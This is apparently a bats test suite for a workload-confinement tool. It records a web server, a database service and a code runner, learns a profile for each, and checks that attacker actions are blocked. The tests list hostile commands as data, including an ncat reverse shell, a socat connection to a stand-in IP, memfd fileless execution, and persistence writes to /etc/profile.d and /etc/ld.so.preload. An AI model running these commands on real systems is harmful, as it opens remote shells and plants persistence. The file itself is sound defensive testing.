#!/usr/bin/env bats
# learn.bats: real workloads are recorded, learnt and enforced in a guest: they run as before, and what an attacker does in
# their place is denied. SNIPPETS=N runs the first N (default 50) of the code runner's 50.
bats_require_minimum_version 1.5.0
load guest
load ../helpers
export BATS_TEST_TIMEOUT=900

setup_file() {
	ip link set lo up
	export WORK=$BATS_TEST_DIRNAME/work
}
setup() {
	need_kwp
	need_btf
	cd "$BATS_TEST_TMPDIR"
}

# learnt COMMAND...: records the command, makes a profile of that in ./learnt.yaml, and runs it again under that profile.
learnt() {
	"$KWP" diff --record recorded --only procs,net -q -- "$@"
	"$KWP" diff --learn recorded >learnt.yaml
	"$KWP" load --check learnt.yaml
	"$KWP" block -P ./learnt.yaml -o json -w denied -- "$@" 2>err || { tail err; head denied; return 1; }
	[ ! -s denied ] || { cat denied; return 1; }
	grep -q ' 0 findings, 0 lost' err
}

# denied [COMMAND...]: in place of the workload neither these do what they are for, nor what no workload here does. One shell
# that the profile confines starts them all, so that kwp loads its programs once: of each it tells its number and how it ended.
denied() {
	local pid status command
	printf '%s\n' "$@" >commands
	cat >>commands <<-'C'
		sh -c 'cp /bin/true ./dropped && ./dropped'
		sh -c 'echo /tmp/x >/etc/profile.d/x.sh'
		sh -c 'exec ncat 192.0.2.1 443 -e /bin/sh'
		sh -c 'exec busybox sh -c id'
	C
	mkfifo go
	exec 9<>go
	bash -c 'while read -r -u 9 line && [ "$line" ]; do
		status=0; (echo -n "$BASHPID " >&8; eval "exec $line 8>&- 9<&-") || status=$?
		echo "$status" >&8
	done' </dev/null > >(cat >said) 2>&1 8> >(cat >ends) 3>&- &
	shell=$!
	"$KWP" block -P ./learnt.yaml -p $shell -f -o json -w findings 2>err 3>&- 9>&- &
	kwp=$!
	until_true 110 grep -q 'in force' err
	{ cat commands; echo; } >&9
	exec 9>&-
	wait $shell
	kill -INT $kwp || true
	wait $kwp || true
	cat said err
	paste -d ' ' ends commands >results
	[ "$(wc -l <ends)" = "$(wc -l <commands)" ]
	while read -r pid status command; do
		[ "$status" != 0 ] || { echo "done: $command"; return 1; }
		jq -es --argjson pid "$pid" 'any(.[]; (.kwp.verdict == "block" or .kwp.verdict == "kill") and
			(.process.pid == $pid or .process.parent.pid == $pid))' findings >/dev/null || { echo "untold: $command"; return 1; }
	done <results
	[ ! -e /etc/profile.d/x.sh ]
}

@test "a web server that serves and takes its configuration again" {
	learnt sh "$WORK/nginx.sh"
	denied "python3 -c 1" "curl -m 2 http://192.0.2.1/" "sh -c 'echo x >/srv/site/index2.html'"
}

@test "a web service with a database" {
	learnt python3 "$WORK/service.py"
	denied "bash -c 'exec id'" \
		"python3 -c 'import subprocess; subprocess.run([\"/bin/sh\", \"-c\", \"id\"], check=True)'" \
		"python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 443), 2)'" \
		"python3 -c 'import os; fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])'" \
		"python3 -c 'open(\"/usr/lib/python3/dist-packages/sitecustomize.py\", \"w\")'"
}

@test "what runs code that a model wrote" {
	learnt python3 "$WORK/runner.py"
	denied "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 443), 2)'" \
		"python3 -c 'import os; fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])'" \
		"python3 -c 'open(\"/etc/ld.so.preload\", \"w\")'" \
		"python3 -c 'open(\"/root/.ssh-not-yet\", \"w\")'" \
		"sh -c 'exec socat - TCP:192.0.2.1:443'"
}
